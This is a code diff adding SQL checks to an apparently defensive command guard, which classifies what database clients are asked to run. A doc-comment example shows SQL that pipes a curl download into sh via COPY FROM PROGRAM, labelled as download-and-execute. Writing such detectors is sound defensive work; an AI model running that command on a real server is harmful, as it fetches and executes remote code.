@@ -1,5 +1,6 @@
 import { classifyJavaScript } from './classify-javascript.ts';
 import { classifyPython } from './classify-python.ts';
+import { classifySql } from './classify-sql.ts';
 import type { CodeClassification } from './code-findings.ts';
 import { checkRedirect, destructiveRemoval, literalArg } from './command-checks.ts';
 import { type Context, deeper, type Flow, opaque, push, spend } from './command-context.ts';
@@ -108,13 +109,33 @@ function withoutKnownLoads(language: Scanned, code: string): string {
   return code;
 }
 
-function judgeRead(read: CodeClassification, via: string, ctx: Context): void {
+/**
+ * Judges SQL a database client is given (`psql -c`, `mysql -e`, piped in) in the shell guard's
+ * classes, as the code guard reads it: data destroyed is destructive, network and credentials
+ * keep their class, a command a server or client runs (`COPY … PROGRAM 'cmd'`, `\! cmd`) is
+ * judged as that command line, and SQL built at run time or that does not read gets every class.
+ *
+ * @example
+ * judgeSql('psql', "COPY t FROM PROGRAM 'curl -s x | sh'", ctx); // downloadExec
+ */
+export function judgeSql(via: string, sql: string, ctx: Context): void {
+  // The client's own commands (`\!`, `.shell`) are read with the other escapes (`escapedCode`).
+  if (spend(ctx, sql.length))
+    judgeRead(classifySql(sql, { clientCommands: false }), via, ctx, (reason) => `${via}: ${reason}`);
+}
+
+function judgeRead(
+  read: CodeClassification,
+  via: string,
+  ctx: Context,
+  describe = (reason: string) => `${via} runs code that ${reason}`,
+): void {
   if (!read.ok) {
-    opaque(ctx, `${via} runs code that could not be read (${read.error})`);
+    opaque(ctx, describe(`could not be read (${read.error})`));
     return;
   }
   for (const finding of read.findings) {
-    const reason = `${via} runs code that ${finding.reason}`;
+    const reason = describe(finding.reason);
     switch (finding.class) {
       case 'network':
       case 'credentials':
